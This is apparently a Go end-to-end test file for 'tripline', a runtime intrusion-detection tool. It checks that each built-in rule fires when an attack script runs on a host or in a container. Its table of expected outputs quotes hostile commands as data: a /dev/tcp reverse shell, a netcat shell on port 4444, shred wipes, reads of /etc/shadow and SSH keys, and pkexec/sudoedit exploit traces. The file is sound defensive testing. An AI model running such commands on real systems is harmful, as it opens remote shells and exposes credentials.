package e2e

import (
	"encoding/json"
	"maps"
	"os"
	"os/exec"
	"path"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"

	"github.com/tripline/tripline/matcher"
	"github.com/tripline/tripline/pkg/msg"
)

const rulesScript = "attacks/rules"

// ruleOutputs is what each rule in YAML says of what the script does for it, by
// the rule's file: a part of its output.
func ruleOutputs() map[string]string {
	return map[string]string{
		"accounts_changed":                 "useradd was started by root (command=useradd -M -N -g 0 intruder",
		"anti_debugging":                   "act has itself traced by rules as root",
		"authorized_keys_changed":          "/authorized_keys for writing as root",
		"became_root":                      "helper of nobody became root (call=setuid command=helper root",
		"bpf_program_loaded":               "act loaded a BPF program as root",
		"climbing_path_read":               "act opened /etc/passwd as ../../etc/passwd with result SUCCESS",
		"cloud_credentials_searched":       "find searched for credentials of a cloud as root",
		"crontab_installed":                "crontab was used by root to change what runs later",
		"crypto_miner_started":             "The miner xmrig was started by root",
		"data_wiped":                       "shred was started as root to wipe data (command=shred -u",
		"database_started_program":         "The database postgres started id as root",
		"download_run":                     "/payload was started shortly after it was downloaded",
		"file_made_in_dev":                 "act made the file /dev/nodevice as root",
		"files_renamed_in_a_burst":         "act gives many files a new ending as root",
		"fork_bomb":                        "rules starts itself ever again in session",
		"hardlink_to_secret":               "made /etc/other another name of /etc/shadow as root",
		"hidden_file_among_programs":       "made a hidden file among programs as root (file=/usr/share/.hidden",
		"java_directory_lookup":            "java connected to 203.0.113.9:1389 as root",
		"loader_tunables_abused":           "act was started with the settings glibc.mem.tagging=glibc.mem.tagging=x by root",
		"logs_cleared":                     "emptied or removed the log /var/log/auth.log as root",
		"looking_around":                   "root looks around with id",
		"mining_pool_connection":           "act connected to 203.0.113.9:3333 as root",
		"namespace_entered":                "nsenter entered a namespace of kind",
		"netcat_hands_out_shell":           "nc connects a program with the network as root (command=nc -l -p 4444 -e /bin/sh",
		"network_tool_on_host":             "The network tool nmap was started by root (command=nmap -sS 192.0.2.0/24",
		"page_faults_delegated":            "fault handles page faults itself as nobody",
		"pkexec_abused":                    "pkexec was started without arguments by nobody (path= gconv=./x charset=",
		"process_traced":                   "act used PTRACE_",
		"program_from_memory":              "was started from memory by rules as root",
		"proxy_environment":                "wget was started with a proxy from the environment by root (http=http://203.0.113.9:3128",
		"reverse_shell_command":            "sh was started to give away a shell by root (command=sh -c true # sh -i >& /dev/tcp/203.0.113.9/443 0>&1",
		"reverse_shell_made":               "A shell answers to a connection: sh",
		"scheduled_task_changed":           "act opened /etc/cron.d/attack for writing as root",
		"secret_read_by_server":            "read /etc/shadow as root (command=nginx later 11 open r /etc/shadow",
		"secrets_searched":                 "find searched for secrets as root",
		"sensitive_file_read":              "act read /etc/shadow as root",
		"server_started_downloader":        "curl was started below a web server by nginx as root",
		"server_started_shell":             "nginx started the shell sh as root",
		"setuid_bit_set":                   "S_ISUID as root (file=/tmp/attack.",
		"shared_memory_execution":          "/dev/shm/tool was run from shared memory by root",
		"shell_history_removed":            "rm removed or changed a shell's history as root",
		"shell_startup_changed":            "/.bashrc for writing as root",
		"simple_tool_on_network":           "tail connected to 203.0.113.9:80 as root",
		"ssh_files_read":                   "act read /root/.ssh/id_rsa as root",
		"ssh_on_odd_port":                  "ssh connected to 203.0.113.9:443 as root",
		"sshd_backdoor_loaded":             "sshd loaded /tmp/attack.",
		"su_tried_again_and_again":         "su failed again and again in session",
		"sudoedit_abused":                  `sudoedit was started as in an exploit by nobody (command=sudoedit -s \`,
		"symlink_to_secret":                "ln made a symbolic link to /etc/shadow as root (link=/etc/link",
		"system_account_interactive":       "tool was run in a session of the system account nobody",
		"system_program_changed":           "act opened /boot/vmlinuz for writing as root",
		"unusual_udp":                      "act sent UDP packets to 203.0.113.9:4242 as root",
		"block_device_opened_in_container": "act opened /dev/sdz in container",
		"capable_container_started":        "was started with dangerous capabilities (capabilities=",
		"cluster_client_in_container":      "kubectl was started in container",
		"connection_to_metadata_service":   "act connected to the metadata service at 169.254.169.254:80 from container",
		"container_drift":                  "/tmp/drift, which is not of the image, was started in container",
		"debugfs_in_container":             "debugfs was started in the privileged container",
		"download_in_container":            "wget fetched something in container",
		"escape_file_written":              "act opened /proc/sys/kernel/core_pattern for writing in container",
		"executable_made_in_container":     "act made the executable file /opt/made in container",
		"files_copied_out":                 "Files were packed with tar from outside in container",
		"host_path_container_started":      "was started with a sensitive part of the host (mounts=/etc:/host/etc",
		"host_path_opened":                 "act opened /host/etc/shadow of the host in container",
		"kubernetes_api_called":            "act called the Kubernetes API at 203.0.113.9:6443 from container",
		"made_executable_in_container":     "chmod made a file executable in container",
		"mount_in_privileged_container":    "mount mounted none at /mnt in container",
		"network_tool_in_container":        "The network tool nmap was started in container",
		"package_manager_in_container":     "The package manager apk was started in container",
		"packet_socket_in_container":       "act opened a packet socket in container",
		"payload_decoded_in_container":     "base64 decoded a text in container",
		"privileged_container_started":     "The privileged container",
		"process_environment_read":         "act read /proc/1/environ in container",
		"remote_copy_in_container":         "The copy tool rsync was started in container",
		"runtime_program_overwritten":      "act opened /usr/bin/runc for writing in container",
		"stdio_to_network":                 "in the place of descriptor 0 as root",
		"terminal_shell_in_container":      "Interactive shell sh opened in container",
		"user_namespace_in_container":      "unshare made namespaces (CLONE_NEWUSER) in container",
	}
}

// machineOutputs are those of rules about what not every kernel lets happen:
// [TestModuleRules] tries them.
func machineOutputs() map[string]string {
	return map[string]string{
		"kernel_module_loaded":         "act loaded a kernel module as root (command=",
		"kernel_module_from_container": "insmod loaded a kernel module from container",
	}
}

// podOutputs are those of rules about pods: [TestPodRules] tries them.
func podOutputs() map[string]string {
	return map[string]string{
		"connection_outside": "act connected to 203.0.113.9:80 from the namespace restricted (command=act dial tcp 203.0.113.9:80 user=boxroot pod=shop",
	}
}

// rulesConfig turns on the rules that are off at first, and lets every rule that
// an event fits say so.
const rulesConfig = `
matcher:
  languages:
    expr:
      rule_matching: all
      rules: [{enable: {rule: "*"}}]
`

// rulesConfigured writes [rulesConfig] and what else is given to a file.
func rulesConfigured(t *testing.T, more ...string) string {
	t.Helper()
	file := filepath.Join(t.TempDir(), "config.yaml")
	if err := os.WriteFile(file, []byte(rulesConfig+strings.Join(more, "")), 0o600); err != nil {
		t.Fatal(err)
	}
	return file
}

// TestRuleAttacks does the real thing for every built-in rule in YAML, on the
// host or in a container as the rule says: it fires, says what happened, and
// names the container.
func TestRuleAttacks(t *testing.T) {
	storage := "vfs"
	if overlays(t) {
		storage = "overlay2"
	}
	socket, client := dockerOn(t, storage)
	serve, url := bus(t)
	config := rulesConfigured(t)
	p := start(t, append([]string{"run", "--config", config, "--docker-socket", socket, "--output", "json"}, serve...)...).ready()
	missing := notServed(t, url)
	rules := allRulesAreTried(t)
	outputs := ruleOutputs()

	for _, place := range []string{"host", "docker"} {
		t.Run(place, func(t *testing.T) {
			before := len(p.out.String())
			cmd := exec.Command(rulesScript, place)
			cmd.Env = append(cmd.Environ(), "DOCKER="+strings.Join(client().Args, " "))
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Errorf("%v: %v\n%s", cmd.Args, err, out)
			}
			found := func() map[string][]msg.Detection {
				by := map[string][]msg.Detection{}
				for _, d := range lines[msg.Detection](p.out.String()[before:]) {
					mine := below(&d, cmd.Process.Pid)
					if place == "docker" {
						mine = d.Event.Container != nil && d.Event.Container.Image == "tripline/rules:1"
					}
					if file := stepOf(&d); mine && d.Rule.ID == rules[file].Info.ID {
						by[file] = append(by[file], d)
					}
				}
				return by
			}
			settle(func() int { return len(found()) })
			by := found()
			for _, file := range strings.Fields(run(t, rulesScript, "list", place)) {
				t.Run(file, func(t *testing.T) {
					if file == "container_drift" && storage == "vfs" {
						t.Skip("needs the storage driver overlay2, which does not go here: there is no upper layer to tell what is not of the image")
					}
					for _, s := range rules[file].Select {
						if why, ok := missing[s.Event]; ok && len(by[file]) == 0 {
							t.Skipf("needs the event %s: %s", s.Event, why)
						}
					}
					if len(by[file]) == 0 {
						t.Fatalf("the rule %q did not fire", rules[file].Info.Name)
					}
					if !slices.ContainsFunc(by[file], func(d msg.Detection) bool { return strings.Contains(d.Output, outputs[file]) }) {
						t.Errorf("it says %q, want %q in it", by[file][0].Output, outputs[file])
					}
					if d := by[file][0]; (d.Event.Container != nil) != (place == "docker") {
						t.Errorf("the container is %+v", d.Event.Container)
					}
				})
			}
		})
	}
}

// allRulesAreTried compares the rules there are with the script and the tables,
// and returns them by the names of their files.
func allRulesAreTried(t *testing.T) map[string]matcher.Rule {
	t.Helper()
	rules := make(map[string]matcher.Rule)
	for line := range strings.Lines(run(t, binary(t), "rules", "list", "--json")) {
		var r matcher.Rule
		if err := json.Unmarshal([]byte(line), &r); err == nil && r.Info.Language == "expr" {
			rules[strings.TrimSuffix(path.Base(r.File), ".yaml")] = r
		}
	}
	tried := append(strings.Fields(run(t, rulesScript, "list", "host")), strings.Fields(run(t, rulesScript, "list", "docker"))...)
	if want := slices.Sorted(maps.Keys(ruleOutputs())); !slices.Equal(slices.Sorted(slices.Values(tried)), want) {
		t.Errorf("the script has attacks for %v, the table for %v", tried, want)
	}
	machine := strings.Fields(run(t, rulesScript, "list", "machine"))
	if want := slices.Sorted(maps.Keys(machineOutputs())); !slices.Equal(machine, want) {
		t.Errorf("the script has attacks for machines of their own for %v, the table for %v", machine, want)
	}
	tried = slices.Concat(tried, machine, slices.Collect(maps.Keys(podOutputs())))
	for file := range rules {
		if !slices.Contains(tried, file) {
			t.Errorf("no attack for the rule of %s.yaml", file)
		}
	}
	for _, file := range tried {
		if _, ok := rules[file]; !ok {
			t.Errorf("there is no rule of %s.yaml", file)
		}
	}
	return rules
}

// overlays says whether file systems of images can be laid over each other here.
func overlays(t *testing.T) bool {
	t.Helper()
	if os.Geteuid() != 0 {
		return false
	}
	dir, err := os.MkdirTemp("", "tl-overlay") // where the engine keeps its images, too
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(dir)
	for _, sub := range []string{"lower", "upper", "work", "all"} {
		if err := os.Mkdir(filepath.Join(dir, sub), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	at := filepath.Join(dir, "all")
	if err := syscall.Mount("overlay", at, "overlay", 0, "lowerdir="+dir+"/lower,upperdir="+dir+"/upper,workdir="+dir+"/work"); err != nil {
		return false
	}
	_ = syscall.Unmount(at, 0)
	return true
}
